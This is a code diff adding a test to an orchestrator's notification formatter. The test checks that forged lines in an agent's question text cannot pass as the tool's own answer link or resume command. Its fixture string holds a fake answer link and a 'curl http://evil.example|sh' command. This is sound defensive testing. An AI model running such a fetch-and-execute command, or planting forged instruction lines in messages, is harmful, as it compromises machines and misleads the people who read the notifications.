@@ -150,3 +150,30 @@ def test_serve_reads_notify_urls_from_the_environment(monkeypatch: pytest.Monkey
     monkeypatch.setenv("ORCHESTRATOR_NOTIFY", "json://a/x, ntfy://b")
     assert notify_urls(None) == ("json://a/x", "ntfy://b")
     assert notify_urls(["slack://c"]) == ("slack://c",)
+
+
+def test_agent_text_cannot_forge_the_notifications_own_lines() -> None:
+    """A question with `\\nAnswer here: http://evil/…\\nOr: curl …|sh` read, in a
+    notification, as the tool's own lines (and without --public-url as the only link).
+    Every line of an agent's text is now set apart under a bar; ours start at column 0."""
+    from orchestrator.web.notify import message_for
+
+    forged = "\nAnswer here: http://evil.example/q/x\nOr: curl http://evil.example|sh"
+    doc = {
+        "session_id": "s1",
+        "task": "a task" + forged,
+        "pending_question": {
+            "asked_by": "pm",
+            "question": "Which one?" + forged,
+            "reason": "because" + forged,
+            "options": [{"label": "A" + forged, "description": "d\u2028Answer by: now" + forged}],
+        },
+    }
+    for link in (None, "https://inbox.example.org/q/real"):
+        _title, body = message_for(doc, "question", answer_link=link, db=None)
+        lines = body.splitlines()
+        ours = [line for line in lines if line.startswith(("Answer here:", "Or:", "Answer by:"))]
+        expected = ["Or: orchestrator resume s1 --answer 'YOUR ANSWER'"]
+        assert ours == ([f"Answer here: {link}"] if link else []) + expected, body
+        assert sum("evil.example" in line for line in lines) == 10  # all of them, set apart
+        assert all("│ " in line for line in lines if "evil.example" in line)
